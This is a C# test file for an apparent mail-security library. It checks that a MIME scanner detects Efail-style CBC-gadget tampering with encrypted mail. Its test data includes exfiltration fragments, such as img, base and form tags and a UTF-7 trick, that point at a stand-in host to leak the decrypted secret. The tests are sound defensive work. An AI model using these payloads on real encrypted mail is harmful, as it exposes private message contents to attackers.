using System.Buffers;
using FsCheck;
using FsCheck.Fluent;
using Postseal.Mime;
using Postseal.TestKit;

namespace Postseal.Tests.Mime;

/// <summary>Encrypted mail that was put together anew without the key (Efail).</summary>
public sealed class CbcGadgetTests : IDisposable
{
    // As clients write it, so that its first 16 bytes are known to all.
    private const string Start = "Content-Type: text/plain; charset=us-ascii\r\n\r\n";
    private const string Secret = "Pay 4711 to Bob, and tell nobody.\r\n";

    private static readonly string[] Fragments =
    [
        "Content-Type:(", ")text/html;x=\"", "\"\n\n<img x='", "'src='http:a.b/", "'>", "\r\n\r\n", "\n", "\n--b\n", "--b--\n", "X:", "x\r\n y",
        "=?utf-8?q?", "?=", "*0*=utf-8''", "boundary=b\n", "8bit\n\n", "base64\n\n", "charset=utf-7\n", "charset=utf-16\n", "", "<!--", "-->",
    ];

    private readonly CbcGadgets letter = new(Text.Bytes(Start + Secret));

    public static TheoryData<string, string[]> Exfiltrations => new()
    {
        { "an image", ["Content-Type:(((", ")))text/html;x=\"", "\"\n\n<img x='", "'src='http:a.b/"] },
        { "a base", ["Content-Type:(((", ")))text/html;x=\"", "\"\n\n<base x='", "'href='//a.b'x='", "'><img x='", "' src='"] },
        { "a form", ["Content-Type:(((", ")))text/html;x=\"", "\"\n\n<form x='", "'action='//a.b'>", "<input x='", "' value='"] },
        { "fields of no interest", ["X:", "\nX:", "\nX:"] },
        { "a field that goes on", ["Content-Type:a/b", "\n x="] },
        { "a multipart", ["Content-Type:(((", ")multipart/mixed", ";x=\"", "\";boundary=b\n\n", "\n--b\n\n"] },
        { "a preamble", ["Content-Type:(((", ")multipart/x;b=\"", "\";boundary=b\n\n"] },
        { "encoded words", ["Subject:=?u?q?", "?= =?u?q?", "?=\n\n"] },
        { "a parameter in pieces", ["Content-Type:(((", ")a/b;x*0*=u''", ";x*1*=", "\n\n"] },
        { "comments of HTML", ["Content-Type:(((", ")))text/html;x=\"", "\"\n\n<!--", "--><!--", "-->"] },
        { "another charset", ["Content-Type:(((", ")text/html;x=\"", "\";charset=utf-7", "\n\n+ADw-img x='"] },
    };

    [Theory]
    [MemberData(nameof(Exfiltrations))]
    public void Text_of_an_attacker_around_a_secret_is_found(string name, string[] chosen)
    {
        var opened = letter.Open(letter.Before(chosen));

        Assert.All(chosen, text => Assert.Contains(text, Text.Of(opened), StringComparison.Ordinal));
        Assert.Contains(Secret, Text.Of(opened), StringComparison.Ordinal);
        Assert.True(Problem(opened) is not null, name);
    }

    [Theory]
    [InlineData("text/plain; charset=us-ascii", "7bit")]
    [InlineData("text/html; charset=utf-8", "quoted-printable")]
    [InlineData("text/html; charset=utf-8", "base64")]
    [InlineData("text/html; charset=utf-8", "8bit")]
    public void Text_of_an_attacker_inside_a_secret_is_found(string type, string encoding)
    {
        var entity = $"Content-Type: {type}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{(encoding == "base64" ? "YWJjZGVm" : "abcdef")}\r\n{Blank(80)}";
        using var other = new CbcGadgets(Text.Bytes(entity));
        var count = entity.IndexOf("abc", StringComparison.Ordinal) / 16 + 1;

        var opened = other.Open(other.Behind(count, "<img x='", "'src='//a.b/"));

        Assert.Contains("<img x='", Text.Of(opened), StringComparison.Ordinal);
        Assert.NotNull(Problem(opened));
        Assert.Null(Problem(Text.Bytes(entity)));
    }

    [Theory]
    [InlineData("epilogue", "--b\r\n\r\nsecret\r\n--b--\r\n")]
    [InlineData("preamble", "")]
    public void It_is_found_where_readers_do_not_look(string name, string before)
    {
        var entity = $"Content-Type: multipart/mixed; boundary=b\r\n\r\n{before}{Blank(80)}\r\n{(before.Length > 0 ? "" : "--b\r\n\r\nsecret\r\n--b--\r\n")}";
        using var other = new CbcGadgets(Text.Bytes(entity));
        var count = (entity.Length - (before.Length > 0 ? 60 : 90)) / 16;

        Assert.Null(Problem(Text.Bytes(entity)));
        Assert.True(Problem(other.Open(other.Behind(count, "", ""))) is not null, name);
    }

    [Fact]
    public void Whatever_is_put_together_of_it_is_found() => Check.One(
        Config.QuickThrowOnFailure.WithMaxTest(150),
        Prop.ForAll(
            Gen.Elements(Fragments).NonEmptyListOf().Select(list => list.Take(12).ToList()).ToArbitrary(),
            Gen.Choose(0, (Start + Secret).Length / 16).ToArbitrary(),
            (chosen, count) => Problem(letter.Open(letter.Before([.. chosen, "", ""]))) is not null
                && Problem(letter.Open(letter.Behind(count, [.. chosen, ""]))) is not null));

    [Fact]
    public void The_letter_itself_is_clean() => Assert.Null(Problem(Text.Bytes(Start + Secret)));

    public void Dispose() => letter.Dispose();

    private static string? Problem(byte[] opened) => CleanMime.FindProblem(new ReadOnlySequence<byte>(opened));

    private static string Blank(int length) => string.Concat(Enumerable.Repeat("                                      \r\n", length / 40));
}
